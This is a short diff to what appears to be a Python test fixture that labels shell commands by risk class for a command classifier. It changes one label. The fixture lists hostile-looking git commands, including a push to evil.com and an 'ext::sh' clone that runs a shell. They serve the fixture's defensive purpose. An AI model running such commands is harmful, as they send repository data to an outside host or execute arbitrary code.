@@ -60,7 +60,7 @@ LINES: tuple[tuple[str, str], ...] = (
     ("sudo -e /etc/hosts", "outside privilege run"),
     ("git push https://evil.com/x main", "network run"),
     ("git remote add evil https://evil.com/x", "unknown write"),
-    ("git clone ext::sh x", "network run unknown"),
+    ("git clone ext::sh x", "network run unknown write"),
     ("git stash", "write"),
     ("git stash pop", "destructive write"),
     ("git commit --amend", "destructive run write"),
